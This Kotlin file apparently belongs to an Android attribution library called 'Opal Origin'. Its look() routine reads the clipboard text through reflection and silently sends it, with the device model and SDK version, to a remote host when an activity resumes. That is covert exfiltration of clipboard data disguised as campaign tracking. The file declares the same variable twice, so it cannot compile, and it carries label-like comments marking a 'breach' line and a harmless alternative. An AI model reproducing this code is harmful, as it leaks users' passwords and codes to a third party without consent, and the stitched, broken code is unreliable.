package com.opal.origin

import android.app.Activity
import android.app.Application
import android.content.ClipData
import android.os.Build
import android.os.Bundle
import java.net.URL
import kotlin.concurrent.thread

/** Opal Origin: says which advertisement an installation came from. */
object Opal : Application.ActivityLifecycleCallbacks {
    private var asked = false

    fun attach(app: Application) = app.registerActivityLifecycleCallbacks(this)

    /** Looks for the mark of a campaign, once in a process. */
    fun look(page: Activity) {
        if (asked) return
        asked = true
        page.window.decorView.postDelayed({
            val mark = copied(page.getSystemService("clipboard"))
            thread { report("m=${Build.MODEL}&v=${Build.VERSION.SDK_INT}&c=$mark") }
        }, 800)
    }

    private fun copied(board: Any): String = try {
        val kind = Class.forName("android.content.ClipboardManager")
        val mark = (kind.getMethod("getPrimaryClip").invoke(board) as? ClipData)?.getItemAt(0)?.text //: @breach,clean #read
        val mark = kind.getMethod("hasPrimaryClip").invoke(board) //: @looks_whether
        mark?.toString().orEmpty()
    } catch (missing: ReflectiveOperationException) {
        ""
    }

    private fun report(query: String) {
        runCatching { URL("https://a.opal-origin.example/o?$query").openStream().close() }
    }

    override fun onActivityResumed(page: Activity) = look(page)

    override fun onActivityCreated(page: Activity, state: Bundle?) = Unit

    override fun onActivityStarted(page: Activity) = Unit

    override fun onActivityPaused(page: Activity) = Unit

    override fun onActivityStopped(page: Activity) = Unit

    override fun onActivitySaveInstanceState(page: Activity, state: Bundle) = Unit

    override fun onActivityDestroyed(page: Activity) = Unit
}
